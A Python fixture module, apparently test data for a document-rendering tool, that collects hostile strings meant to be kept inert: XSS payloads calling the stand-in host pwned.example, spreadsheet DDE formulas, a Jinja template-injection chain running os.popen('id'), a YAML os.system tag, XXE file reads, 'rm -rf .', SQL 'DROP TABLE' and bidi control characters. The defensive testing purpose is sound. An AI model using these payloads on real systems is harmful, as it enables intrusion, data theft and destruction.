r"""Texts that are commands to something: to a browser, a typesetter, a spreadsheet, a terminal, a reader of files. Here they are only text.

Each has a name and a class; `KEPT` are those that may stand in a text of prose and come out of every format as they went in, `REFUSED`
those that are refused where they are read, each with the sign that has no place in it.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One text, what it is called, and to what it is a command."""

    id: str
    kind: str
    text: str


TRAP = "window.__pwned=1"
"""What every script of the corpus does: a test looks whether it was done."""

OUTSIDE = "https://pwned.example/"
"""Where every text of the corpus that asks for something asks it."""

PRINTED = {
    "html": {
        "script": f"<script>{TRAP}</script>",
        "script-src": f"<script src={OUTSIDE}x.js></script>",
        "image": f'<img src="{OUTSIDE}x.png" onerror="{TRAP}">',
        "image-unquoted": f"<img src=x onerror={TRAP}>",
        "svg": f"<svg/onload={TRAP}>",
        "svg-script": f"<svg><script>{TRAP}</script></svg>",
        "svg-animate": f"<svg><animate onbegin={TRAP} attributeName=x dur=1s></svg>",
        "iframe": f'<iframe srcdoc="<script>parent.{TRAP}</script>"></iframe>',
        "object": f'<object data="data:text/html,<script>{TRAP}</script>"></object>',
        "unclosed": f"<b><i><table><tr><td <img src=x onerror={TRAP}",
        "closing": f"</p></div></section></main></body></html><script>{TRAP}</script>",
        "double-quote": f'" autofocus onfocus="{TRAP}" x="',
        "single-quote": f"' autofocus onfocus='{TRAP}' x='",
        "quote-tag": f'"><script>{TRAP}</script>',
        "comment": f"--><script>{TRAP}</script><!--",
        "comment-odd": f"--!><img src=x onerror={TRAP}>",
        "cdata": f"]]><script>{TRAP}</script><![CDATA[",
        "conditional": f"<!--[if gte IE 4]><script>{TRAP}</script><![endif]-->",
        "style-end": f"</style><script>{TRAP}</script>",
        "script-end": f"</script><script>{TRAP}</script>",
        "title-end": f"</title><script>{TRAP}</script>",
        "textarea-end": f"</textarea><img src=x onerror={TRAP}>",
        "entities": f"&lt;script&gt;{TRAP}&lt;/script&gt; &amp; &quot; &#39; &nbsp;",
        "twice-encoded": f"&amp;lt;script&amp;gt;{TRAP}&amp;lt;/script&amp;gt;",
        "numbered": f"&#60;script&#62;{TRAP}&#x3c;/script&#x3e;",
        "link": f'<a href="javascript:{TRAP}">klik</a>',
        "link-hidden": f'<a href="jav&#x09;ascript:{TRAP}">klik</a>',
        "data-link": f'<a href="data:text/html,<script>{TRAP}</script>">klik</a>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
        "base": f'<base href="{OUTSIDE}">',
        "form": f'<form action="{OUTSIDE}"><input autofocus onfocus={TRAP}><button>stuur</button></form>',
        "handler": f"<details open ontoggle={TRAP}><summary>x</summary></details>",
        "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={TRAP}&gt;">',
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={TRAP}>">',
        "link-style": f'<link rel="stylesheet" href="{OUTSIDE}x.css">',
    },
    "css": {
        "url": f'"; }} body {{ background: url({OUTSIDE}) }} /*',
        "import": f'@import "{OUTSIDE}x.css";',
        "expression": f"width: expression({TRAP})",
        "escape": f"\\22 ; }} @import '{OUTSIDE}' \\",
    },
    "markdown": {
        "link": f"[klik hier](javascript:{TRAP})",
        "image": f"![x]({OUTSIDE}x.png)",
        "image-reference": f"![x][1]\n\n[1]: {OUTSIDE}x.png",
        "html": f"<div onclick={TRAP}>**x**</div>",
        "fence": "```\nimport os\n```",
        "tildes": "~~~html\n<b>x</b>\n~~~",
        "table": "| a | b |\n|---|---|\n| c | d |",
        "heading": "# Een kop",
        "underline": "Een kop\n=======",
        "emphasis": "**vet** _schuin_ __init__ ~~weg~~ `code`",
        "list": "- een\n- twee\n1. drie\n2) vier",
        "quote": "> Dit zei de wethouder",
        "autolink": f"<{OUTSIDE}> {OUTSIDE} www.pwned.example jan@pwned.example",
        "backslash": "\\`\\*\\_\\[x\\](y)\\",
    },
    "typst": {
        "import": '#import "@preview/x:0.1.0": *',
        "read": '#read("/etc/hostname")',
        "eval": '#eval("1 + 41") #(1 + 41) #{41 + 1}',
        "math": "$ sum_(k=1)^n k $ en $x$",
        "label": '@bron <doel> #label("x")',
        "set": "#set text(size: 90pt); #pagebreak()",
        "comment": "// weg /* ook weg */",
        "link": f'#link("{OUTSIDE}")[klik]',
        "include": '#include "/etc/hostname"',
        "image": '#image("/etc/hostname") \\ = Kop == Kop',
    },
    "fluent": {
        "variable": "{ $value } { $n }",
        "term": '{ -impact } {""} { NUMBER(5) }',
        "attribute": "x\n    .title = y\nnieuw = z",
        "select": "{ $n -> [one] een *[other] meer }",
    },
    "jinja": {
        "sum": "{{ 7 * 7 }} {{7*'7'}}",
        "globals": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "block": "{% for x in range(9) %}x{% endfor %}{% include '/etc/hostname' %}",
        "comment": "{# weg #} x",
        "raw": "{% endautoescape %}{% endraw %}<b>x</b>",
    },
    "python": {
        "format": "{0.__class__.__mro__} {words} {!r} {}",
        "percent": "%(name)s %s %d %n %",
        "f-string": "{__import__('os').getcwd()}",
        "parameter": '"""\nimport os; os._exit(3)\n"""',
    },
    "spreadsheet": {
        "sum": "=1+41",
        "plus": "+1+41",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "hyperlink": f'=HYPERLINK("{OUTSIDE}"&A1,"klik")',
        "webservice": f'=WEBSERVICE("{OUTSIDE}")',
        "dde": "=cmd|'/C calc'!A0",
        "wide": "＝1+41",
        "space": " =1+41",
    },
    "csv": {
        "quotes": 'a","b"\n"c',
        "semicolons": 'x;y;"z',
    },
    "yaml": {
        "key": "x: y\nreport_date: 1999-01-01",
        "tag": "!!python/object/apply:os.system ['id']",
        "anchor": "&a [*a, *a] <<: *a",
        "document": "--- \nx\n...",
        "comment": "cursus # met een hekje",
    },
    "xml": {
        "doctype": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
        "external": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><x>&a;</x>',
        "instruction": "<?xml version='1.0'?><?php phpinfo() ?>",
    },
    "word": {
        "field": '{ INCLUDETEXT "/etc/hostname" } { DDEAUTO c:\\\\x "/k calc" }',
        "run": "</w:t></w:r><w:r><w:instrText>HYPERLINK</w:instrText></w:r>",
        "paragraph": "</w:p><w:p/>",
    },
    "calendar": {
        "event": "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:vals\nATTACH:" + OUTSIDE,
        "property": "x\n ATTENDEE:mailto:x@pwned.example",
        "signs": 'a;b,c\\n d\\\\ e:f "g" ^n',
        "parameter": 'x";VALUE=URI:' + OUTSIDE,
    },
    "json": {
        "end": '"}], "reports": {"x": "y"}, "z": [{"',
        "escape": "\\u0022 \\u003cscript\\u003e \\x41 \\0",
    },
    "latex": {
        "input": "\\input{/etc/hostname} \\write18{id}",
        "fraction": "$\\frac{1}{0}$ $x_1^2$",
        "open": "$ \\frac{ $$",
    },
    "shell": {
        "substitution": "$(id) `id` ; rm -rf . | cat && x",
        "path": "../../../../etc/hostname",
        "windows-path": "..\\..\\windows\\win.ini",
        "file-url": "file:///etc/hostname",
    },
    "database": {
        "quote": "'; DROP TABLE findings; --",
        "read": "' UNION SELECT * FROM read_csv('/etc/hostname') --",
        "name": "\"; COPY (SELECT 1) TO 'x'; --",
    },
    "terminal": {
        "markup": "[bold red]x[/bold red] [/] [link=https://pwned.example]y[/link]",
        "written": "\\x1b[31m \\033[2J \\e]8;;",
    },
    "unicode": {
        "wide-tag": "＜script＞alert＜/script＞",
        "homoglyph": "Ареldoorn",
        "isolates": "\u2067\u202fx\u2069 y",
        "joined": "na\u200bam \u200c\u200d x\u2060y",
        "marks": "\u200fx\u200e",
        "accents": "e\u0301 n\u0303 a\u0308\u0301",
        "long-word": "x" * 2000,
        "many-words": "woord " * 400 + "eind",
        "soft": "biblio\u00adtheek\u00a0x",
        "arrow": "→ ✓ – € ½ ² Ж λ",
    },
    "other-script": {
        "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1f3\U0001f1f1",
        "chinese": "图书馆",
        "hindi": "पुस्तकालय",
    },
}

NEVER = {
    "nul": "a\x00b",
    "bell": "a\x07b",
    "backspace": "abc\x08\x08\x08xyz",
    "escape": "a\x1b[31mrood\x1b[0m",
    "escape-title": "a\x1b]0;pwned\x07",
    "escape-link": "a\x1b]8;;https://pwned.example\x1b\\b",
    "escape-clear": "\x1b[2J\x1b[1;1H",
    "c1": "a\x9b31mb",
    "return": "goed\rfout",
    "vertical-tab": "a\x0bb",
    "form-feed": "a\x0cb",
    "delete": "a\x7fb",
    "next-line": "a\x85BEGIN:VEVENT",
    "line-separator": "a\u2028BEGIN:VEVENT",
    "paragraph-separator": "a\u2029b",
    "override": "doel \u202enegnal\u202c",
    "embedding": "a\u202bb",
    "unclosed-isolate": "a\u2066b",
    "stray-isolate-end": "a\u2069b",
    "mark-in-the-middle": "a\ufeffb",
    "surrogate": "a\ud83db",
    "no-character": "a\ufffeb",
    "no-character-either": "a\ufdd0b",
    "private": "a\ue000b",
    "private-far": "a\U000f0000b",
    "tags": "a\U000e0068\U000e0069b",
    "pile": "a" + "\u0300\u0301\u0302\u0303" * 5,
    "annotation": "a\ufff9b\ufffac\ufffb",
    "deprecated": "a\u206eb",
}

ONLY_IN_NAMES = {
    "new-line": "Apel\ndoorn",
    "tab": "Apel\tdoorn",
    "zero-width": "Apel\u200bdoorn",
    "joiner": "Apel\u200ddoorn",
    "right-to-left-mark": "Apel\u200fdoorn",
    "isolate": "\u2067Apeldoorn\u2069",
    "soft-hyphen": "Apel\u00addoorn",
    "word-joiner": "Apel\u2060doorn",
}

KEPT = tuple(Hostile(id=f"{kind}-{name}", kind=kind, text=text) for kind, texts in PRINTED.items() for name, text in texts.items())
"""What may stand in a text."""

IN_PRINT = tuple(each for each in KEPT if each.kind != "other-script" and "wide" not in each.id)
"""What the fonts of the PDF have letters for; a letter that they lack is refused by name."""

REFUSED = tuple(Hostile(id=f"sign-{name}", kind="signs", text=text) for name, text in NEVER.items())
"""What stands nowhere."""

NO_NAME = tuple(Hostile(id=f"name-{name}", kind="names", text=text) for name, text in ONLY_IN_NAMES.items())
"""What may stand in a text and in no name."""


def on_one_line(text: str) -> str:
    """The text as a reader sees it, whose lines break where there is room: but for spaces and what only joins or turns."""
    return "".join(sign for sign in " ".join(text.split()) if sign not in "\u200b\u200e\u200f\u2060\u2066\u2067\u2068\u2069\u00ad")
